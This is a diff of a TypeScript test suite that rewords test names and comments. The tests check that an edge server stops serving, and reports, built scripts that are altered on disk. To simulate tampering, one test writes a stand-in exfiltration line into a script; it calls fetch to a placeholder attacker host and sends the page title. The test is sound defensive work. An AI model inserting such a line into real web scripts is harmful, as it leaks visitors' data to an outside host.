@@ -27,7 +27,7 @@ const askOf = (scripts: ReturnType<typeof open>) => {
     (await edge.send(path, { headers: { 'accept-encoding': encoding } })).status;
 };
 
-it('the inventory of a build names its scripts in every form, and nothing else [A29]', () => {
+it("a build's inventory lists its scripts in every form, and no other files [A29]", () => {
   expect(Object.keys(scriptsIn(folder))).toEqual([
     'assets/index.js',
     'assets/index.js.br',
@@ -36,7 +36,7 @@ it('the inventory of a build names its scripts in every form, and nothing else [
   ]);
 });
 
-it('scripts as they were built are served, and no other file is looked at [A29]', async () => {
+it('scripts that are unchanged since the build are served, and files other than scripts are not checked [A29]', async () => {
   const scripts = open();
   const ask = askOf(scripts);
   for (const path of ['/assets/index.js', '/assets/payments-library/1.0.0.js', '/sw.js', '/assets/style.css'])
@@ -44,7 +44,7 @@ it('scripts as they were built are served, and no other file is looked at [A29]'
   expect(await ask('/assets/index.js', 'br')).toBe(200);
   write('assets/style.css', 'b{}');
   expect(await ask('/assets/style.css')).toBe(200);
-  // No browser runs what a script was made from.
+  // No browser runs a source map.
   write('assets/index.js.map', '{}');
   expect([scripts.check(), told]).toEqual([[], []]);
 });
@@ -53,7 +53,7 @@ it.each([
   ['a script', 'assets/payments-library/1.0.0.js', '/assets/payments-library/1.0.0.js'],
   ['the compressed form of one', 'assets/index.js.br', '/assets/index.js'],
   ['the worker', 'sw.js', '/sw.js'],
-])('%s that is changed on the disk is served no more from then on, and told once [A29]', async (_what, name, path) => {
+])('stops serving %s once it is changed on disk, and reports the change once [A29]', async (_what, name, path) => {
   const ask = askOf(open());
   expect(await ask(path)).toBe(200);
   write(name, 'fetch("https://evil.example/?" + document.title);');
@@ -61,7 +61,7 @@ it.each([
   expect(told).toEqual([name]);
 });
 
-it('one of the same size and time is found when all are looked at, and is served again once it is right [A29]', async () => {
+it('a full check detects a changed script with the same size and time, and the script is served again once it is restored [A29]', async () => {
   const scripts = open();
   const ask = askOf(scripts);
   const moment = new Date('2026-11-20T12:00:00Z');
@@ -70,7 +70,7 @@ it('one of the same size and time is found when all are looked at, and is served
   expect(await ask('/sw.js')).toBe(200);
   write('sw.js', 'evil;');
   touch();
-  // Nothing is read for a call that looks as it did.
+  // A request does not make the edge read a file whose time and size are unchanged.
   expect(await ask('/sw.js')).toBe(200);
   expect([scripts.check(), scripts.check()]).toEqual([['sw.js'], ['sw.js']]);
   expect(await ask('/sw.js')).toBe(404);
@@ -78,7 +78,7 @@ it('one of the same size and time is found when all are looked at, and is served
   expect([scripts.check(), await ask('/sw.js'), told]).toEqual([[], 200, ['sw.js']]);
 });
 
-it('a script that was not built is none of the site’s [A29]', async () => {
+it('a script that is not part of the build is not served [A29]', async () => {
   const scripts = open();
   write('assets/more.js', 'evil;');
   expect([scripts.check(), await askOf(scripts)('/assets/more.js'), told]).toEqual([
